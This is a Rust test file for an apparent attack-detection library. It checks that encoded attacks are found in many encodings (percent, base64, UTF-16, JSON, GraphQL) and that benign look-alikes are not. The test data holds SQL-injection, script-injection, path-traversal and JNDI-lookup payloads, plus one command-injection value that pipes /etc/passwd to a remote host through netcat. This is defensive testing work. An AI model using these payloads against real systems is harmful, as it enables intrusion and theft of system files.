//! The same attack in every encoding, the bounds of undoing, and what is said of it.

use detect::{Coding, Families, Family, Finding, Place, inspect};

fn find(value: &[u8]) -> Option<Finding> {
    inspect(Place::Value, value, Families::NONE).filter(|finding| finding.score >= detect::THRESHOLD)
}

#[test]
fn an_attack_is_found_in_every_view_and_its_twin_in_none() {
    use Coding::{Base64, Entities, Escapes, Form, Graphql, Json, Percent, Utf16, Width};
    let utf16 = |text: &str, big: bool| -> Vec<u8> {
        text.encode_utf16()
            .flat_map(|unit| if big { unit.to_be_bytes() } else { unit.to_le_bytes() })
            .collect()
    };
    let cases: Vec<(Vec<u8>, Vec<u8>, Vec<Coding>)> = vec![
        (b"x%27%20or%20%271%27%3d%271".into(), b"x%27s%20or%20y".into(), vec![Percent]),
        (b"x%2527%2520or%25201%253d1--".into(), b"x%2527s%2520or".into(), vec![Percent, Percent]),
        (b"eCcgb3IgJzEnPScx".into(), b"eCBvciB5IGFuZCB6".into(), vec![Base64]),
        (
            b"PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg".into(),
            b"YSBub3RlIG9mIG1pbmUsIG5vIG1vcmU".into(),
            vec![Base64],
        ),
        (br"x\u0027 or \u00271\u0027=\u00271".into(), br"x\u0027s or y".into(), vec![Escapes]),
        (br"\x3cscript\x3ealert(1)".into(), br"\x3cb\x3e".into(), vec![Escapes]),
        (b"x&#39; or &#39;1&#39;=&#39;1".into(), b"x&#39;s or y".into(), vec![Entities]),
        (utf16("x' or '1'='1", false), utf16("x's or y", false), vec![Utf16]),
        (utf16("x' or '1'='1", true), utf16("x's or y", true), vec![Utf16]),
        ("＜script＞alert(1)".into(), "＜ｂ＞".into(), vec![Width]),
        (b"{\"a\":[1,\"x' or '1'='1\"]}".into(), b"{\"a\":[1,\"x's or y\"]}".into(), vec![Json]),
        (
            b"query { user(name: \"eCcgb3IgJzEnPScx\") { id } }".into(),
            b"query { user(name: \"eCBvciB5IGFuZCB6\") { id } }".into(),
            vec![Graphql, Base64],
        ),
        (b"a=1&b=x%27+or+%271%27%3d%271".into(), b"a=1&b=x%27s+or+y".into(), vec![Form]),
        (
            b"{\"a\":\"eCclMjBvciUyMCcxJz0nMQ==\"}".into(),
            b"{\"a\":\"b25lJTIwdHdvJTIwdGhyZWU=\"}".into(),
            vec![Json, Base64, Percent],
        ),
    ];
    for (attack, twin, codings) in cases {
        let finding = find(&attack).unwrap_or_else(|| panic!("{:?}", String::from_utf8_lossy(&attack)));
        assert_eq!(
            finding.view.codings().collect::<Vec<_>>(),
            codings,
            "{:?}",
            String::from_utf8_lossy(&attack)
        );
        assert_eq!(find(&twin), None, "{:?}", String::from_utf8_lossy(&twin));
    }
}

/// In a long document a short argument is a short value still.
#[test]
fn arguments_of_graphql_are_looked_at_by_their_value() {
    let fields = "id name description(format: \"markdown\") price(currency: EUR) ".repeat(20);
    let document = |argument: &str| {
        format!(
            "query Q($id: ID! = 3) {{ # all\n  item(where: {{ a: [{argument}, -1.5e3] }}) @include(if: $x) {{ {fields} ...F }}\n}}"
        )
    };
    for (attack, twin) in [
        (r#""x' or '1'='1""#, r#""x's or y""#),
        (r#""x\u0027 or \u00271\u0027=\u00271""#, r#""x\u0027s or y""#),
        (r#""""; cat /etc/passwd | nc 192.0.2.1 9""""#, r#""""a "cat" and its \""" tail""""#),
        (r#""<script>alert(1)</script>""#, r#""<b>""#),
        (r#""../../../../etc/passwd""#, r#""a/b/c""#),
    ] {
        let found = find(document(attack).as_bytes()).unwrap_or_else(|| panic!("{attack}"));
        // What counts in a text as well is found in the document itself.
        let is_inside = found.view.codings().any(|coding| coding == Coding::Graphql);
        assert!(is_inside || found.family != Family::Sql, "{attack}: {}", found.view);
        assert_eq!(find(document(twin).as_bytes()), None, "{twin}");
    }
    // What has other signs than tokens is no document, and neither is one that is cut off.
    for other in ["{ g(\"x' or '1'='1\"); }", "{ g(a: \"x' or '1'='1\" }  \"", "query \"x' or '1'='1\""] {
        let found = inspect(Place::Value, other.as_bytes(), Families::NONE);
        assert!(found.is_none_or(|found| found.view.depth() == 0), "{other}");
    }
}

#[test]
fn a_finding_explains_itself() {
    let finding = find(b"q=%3Cscript%3Ealert(1)%3C/script%3E&r=1").unwrap();
    let Finding { family, rule, view, start, end, score } = finding;
    assert_eq!(
        (family, rule, view.to_string().as_str(), start, end, score),
        (Family::Script, "tag", "form", 0, 7, 9)
    );
    assert_eq!(find(b"<script>alert(1)</script>").unwrap().view.to_string(), "plain");
}

#[test]
fn families_can_be_left_out() {
    let attack = b"x' or '1'='1";
    assert!(inspect(Place::Value, attack, Families::NONE).is_some());
    assert_eq!(inspect(Place::Value, attack, Families::NONE.with(Family::Sql)), None);
    assert!(inspect(Place::Value, attack, Families::NONE.with(Family::Script)).is_some());
    assert_eq!(inspect(Place::Value, attack, Families::ALL.without(Family::Jndi)), None);
    for family in Family::ALL {
        assert_eq!(Family::by_tag(family.tag()), Some(family));
        assert!(Families::NONE.with(family).has(family) && !Families::ALL.without(family).has(family));
    }
    assert_eq!(Family::by_tag("attack-other"), None);
}

#[test]
fn what_is_encoded_too_often_is_a_finding() {
    let mut value = String::from("100%");
    for _ in 0..3 {
        value = value.replace('%', "%25");
    }
    assert_eq!(find(value.as_bytes()), None, "three times");
    for _ in 0..2 {
        value = value.replace('%', "%25");
    }
    let finding = find(value.as_bytes()).unwrap();
    assert_eq!((finding.family, finding.rule), (Family::Evasion, "layers"));
}

#[test]
fn long_texts_are_read_to_their_end() {
    let text = "A harmless sentence of some length, with a comma. ".repeat(2_000);
    assert_eq!(find(text.as_bytes()), None);
    for attack in ["' union all select null,null--", "<script>alert(1)</script>", "${jndi:ldap://x/a}"] {
        for at in [0, 16_380, 50_000, text.len()] {
            let (before, after) = text.split_at(at);
            let finding = find(format!("{before}{attack}{after}").as_bytes());
            let finding = finding.unwrap_or_else(|| panic!("{attack} at {at}"));
            assert!(finding.start + 40 >= at && finding.end <= at + attack.len() + 40, "{finding:?} at {at}");
        }
    }
}

#[test]
fn fields_of_bodies_are_handed_over_one_by_one() {
    let mut texts = Vec::new();
    let body = b"<?xml version=\"1.0\"?><a b='c'>d<!-- e --><![CDATA[<f>]]><g/> h</a>";
    detect::xml_parts(body, |part| texts.push(String::from_utf8_lossy(part).into_owned()));
    assert_eq!(texts, ["1.0", "c", "d<f>", "h"]);
}

#[test]
fn the_piece_that_was_found_is_that_of_its_view() {
    let attack = "x' or '1'='1";
    for (value, view) in [
        (attack.to_owned(), "plain"),
        (attack.replace('\'', "%27"), "percent"),
        ("eCcgb3IgJzEnPScx".to_owned(), "base64"),
        (format!("{{\"a\":\"b\",\"c\":\"{attack}\",\"d\":\"e\"}}"), "json"),
    ] {
        let (finding, piece) =
            detect::explain(detect::Place::Value, value.as_bytes(), detect::Families::NONE).unwrap();
        assert_eq!(
            Some(finding),
            detect::inspect(detect::Place::Value, value.as_bytes(), detect::Families::NONE)
        );
        assert_eq!(finding.view.to_string(), view);
        assert!(attack.contains(std::str::from_utf8(&piece).unwrap()) && piece.contains(&b'\''), "{piece:?}");
    }
    assert_eq!(detect::explain(detect::Place::Value, b"O'Brien", detect::Families::NONE), None);
}
